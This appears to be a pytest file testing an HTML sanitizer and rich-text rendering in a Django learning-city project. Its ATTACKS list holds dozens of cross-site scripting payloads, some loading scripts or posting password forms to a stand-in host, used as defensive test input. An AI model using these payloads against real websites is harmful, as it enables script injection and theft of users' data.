import random
import re
import time

import pytest
from django.template import Context, Template
from django.utils.translation import override

from learningcity.common import rich
from learningcity.common.rich import clean_html, is_rich, pictures_in, plain, shown
from learningcity.common.text import LocalText

# Ways in which people have tried to bring a program into a page.
ATTACKS = [
    "<script>alert(1)</script>",
    "<p><script>alert(1)</script></p>",
    "<p><SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<p><scr<script>ipt>alert(1)</scr</script>ipt>",
    "<p onclick=alert(1)>x",
    "<p ONMOUSEOVER='alert(1)'>x",
    "<p style='background:url(javascript:alert(1))'>x",
    "<p class=admin id=content>x",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;&#x61;vascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/\\evil.example/'>x</a>",
    "<a href='https:javascript:alert(1)'>x</a>",
    "<a href='/x' onclick='alert(1)' target='_blank' ping='https://evil.example'>x</a>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<img data-picture='1' src=x onerror=alert(1)>",
    "<img data-picture='1\" onerror=\"alert(1)'>",
    "<img data-picture='../../1'>",
    "<image xlink:href='x' onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<base href='https://evil.example/'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<form action='https://evil.example/'><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<details open ontoggle=alert(1)>x",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<table background='javascript:alert(1)'><tr><td style='x:expression(alert(1))'>x</table>",
    "<td colspan='2\" onclick=\"alert(1)'>x",
    "<table><tr><td colspan='99999999'>x</table>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<ul><li><a href='&#14;javascript:alert(1)'>x</a></ul>",
    '<p><a href="https://example.org/&quot;onmouseover=alert(1)">x</a>',
]
TAG = re.compile(r"<(/?)([a-z0-9]+)((?:\s[^<>]*)?)>")
ATTRIBUTE = re.compile(r'\s([a-z-]+)="([^"<>]*)"')
ALLOWED = {
    "a": {"href", "rel"},
    "img": {"data-picture"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan"},
} | {name: set() for name in "h3 h4 p ul ol li blockquote strong em table thead tbody tr br".split()}


def insist_on_harmless(html):
    """Read every tag with eyes of our own: only known names, only known attributes, only good addresses."""
    assert "<" not in TAG.sub("", html)
    for _end, name, inside in TAG.findall(html):
        assert name in ALLOWED
        assert ATTRIBUTE.sub("", inside).strip() == ""
        for attribute, value in ATTRIBUTE.findall(inside):
            assert attribute in ALLOWED[name]
            assert attribute != "href" or re.match(r"https?://|mailto:|/[^/\\]", value)


@pytest.mark.parametrize("attack", ATTACKS)
def test_clean_html_lets_no_attack_through(attack):
    cleaned = clean_html(attack)

    insist_on_harmless(cleaned)
    assert clean_html(cleaned) == cleaned


def test_clean_html_of_anything_is_harmless_and_stays_as_it_is():
    pieces = [
        *ATTACKS,
        "<p>",
        "</p>",
        "<ul>",
        "<li>",
        "</ul>",
        "<table>",
        "<tr>",
        "<td>",
        "<th>",
        "</table>",
        "<b>",
        "</b>",
    ]
    pieces += [
        "<h3>",
        "</h4>",
        "<blockquote>",
        "<br>",
        "<img data-picture=7>",
        "ไทย",
        " ",
        "\n",
        "&amp;",
        "&nbsp;",
        "<a href='/x'>",
    ]
    pieces += [
        "<div>",
        "</div>",
        "<caption>",
        "<tfoot>",
        "<thead>",
        "<ol>",
        "</li>",
        "</tr>",
        "<em>",
        "</a>",
        "<h1>",
        "x",
    ]
    luck = random.Random(3)

    for _ in range(1500):
        cleaned = clean_html("<p>" + "".join(luck.choices(pieces, k=luck.randint(1, 14))))

        insist_on_harmless(cleaned)
        assert clean_html(cleaned) == cleaned


@pytest.mark.parametrize(
    ("given", "cleaned"),
    [
        ("<h1>A</h1><h2>B</h2><h5>C</h5>", "<h3>A</h3><h3>B</h3><h4>C</h4>"),
        ("<b>a</b> <i>b</i>", "<p><strong>a</strong> <em>b</em></p>"),
        ("<div>a</div><div>b</div>", "<p>a</p><p>b</p>"),
        ("<p>a<img data-picture=3>b</p>", '<p>a</p><img data-picture="3"><p>b</p>'),
        ("<ul>a<li><p>b</p></li></ul>", "<ul><li>a</li><li>b</li></ul>"),
        ("<ul><li>a<ul><li>b</li></ul></li></ul>", "<ul><li><p>a</p><ul><li>b</li></ul></li></ul>"),
        (
            "<table><caption>c</caption><tr><th>a<td rowspan=2>b</table>",
            '<p>c</p><table><tbody><tr><th>a</th><td rowspan="2">b</td></tr></tbody></table>',
        ),
        ("<p>a</p><p><br></p><p> </p>", "<p>a</p>"),
        ("<strong><h3>a</h3></strong>", "<h3>a</h3>"),
        ("<a href='mailto:a@example.org'>a</a>", '<p><a href="mailto:a@example.org" rel="nofollow ugc">a</a></p>'),
        ("<a href='/cities/?a=1&b=2'>a</a>", '<p><a href="/cities/?a=1&amp;b=2" rel="nofollow ugc">a</a></p>'),
        ("<a href='ftp://example.org'>a</a>", "<p>a</p>"),
        ("<o:p class=MsoNormal>ก</o:p>", "<p>ก</p>"),
        ("<p>1 &lt; 2 &amp; 3</p>", "<p>1 &lt; 2 &amp; 3</p>"),
    ],
)
def test_clean_html_keeps_what_is_meant(given, cleaned):
    assert clean_html(given) == cleaned


@pytest.mark.parametrize("text", ["", "one line", "a < b\nb > c & d", "<3 learning", "<5 ปี", " - a\n - b"])
def test_clean_html_leaves_plain_text_alone(text):
    assert not is_rich(text)
    assert clean_html(text) == text
    assert plain(text) == text


def test_clean_html_of_a_thousand_lists_in_lists_is_shallow_and_soon_done():
    began = time.monotonic()
    cleaned = clean_html("<ul><li>" * 5000 + "x")

    assert cleaned.count("<ul>") <= rich.DEEPEST
    assert time.monotonic() - began < 10


def test_clean_html_reads_no_markup_in_what_is_longer_than_any_text():
    insist_on_harmless(clean_html("<p onclick=alert(1)>" + "x" * rich.LONGEST))


def test_plain_gives_the_words_line_by_line():
    html = "<h3>ห้องเรียน</h3><p>One <strong>two</strong><br>three</p><ul><li>a</li></ul><table><tr><td>1</td><td>2</td></tr></table>"

    assert plain(html) == "ห้องเรียน\nOne two\nthree\na\n1 2"


def test_pictures_in_finds_each_once():
    assert pictures_in('<img data-picture="3"><p>a<img data-picture=4></p>', '<img data-picture="3">', "5") == {3, 4}


# --- On a page --------------------------------------------------------------------------------------------------------


def prose(text, tag="{% prose value %}"):
    return Template(tag).render(Context({"value": text}))


def test_prose_of_plain_text_is_as_it_was():
    with override("en"):
        assert prose(LocalText("", "a < b\n\n c ")) == "<p>a &lt; b</p>\n<p>c</p>"
        assert prose(LocalText("ก", "")) == '<p lang="th" class="foreign">ก</p>'


def test_prose_of_rich_text_is_cleaned_again():
    with override("en"):
        assert prose(LocalText("", "<p onclick=alert(1)>a</p>")) == '<div class="rich"><p>a</p></div>'
        assert prose(LocalText("<p>ก</p>", "")) == '<div lang="th" class="rich foreign"><p>ก</p></div>'


def test_prose_puts_headings_where_the_page_wants_them():
    with override("en"):
        assert prose(LocalText("", "<h3>a</h3><h4>b</h4>"), "{% prose value headings=4 %}") == (
            '<div class="rich"><h4>a</h4><h5>b</h5></div>'
        )


def test_shown_frames_tables():
    with override("en"):
        assert shown("<table><tr><th>a</th></tr></table>") == (
            '<div class="table-frame" role="region" tabindex="0" aria-label="Table"><table class="told">'
            '<tbody><tr><th scope="col">a</th></tr></tbody></table></div>'
        )
        assert '<th scope="row">a</th><td>b</td>' in shown("<table><tr><th>a</th><td>b</td></tr></table>")


def test_shown_draws_the_pictures_that_somebody_knows(monkeypatch):
    asked = []
    monkeypatch.setattr(rich, "_draw", [lambda numbers: asked.append(list(numbers)) or {3: "<figure></figure>"}])

    assert shown('<p>a</p><img data-picture="3"><img data-picture="4">') == "<p>a</p><figure></figure>"
    assert asked == [[3, 4]]


def test_shown_without_anybody_who_draws_has_no_pictures(monkeypatch):
    monkeypatch.setattr(rich, "_draw", [])

    assert shown('<p>a</p><img data-picture="3">') == "<p>a</p>"
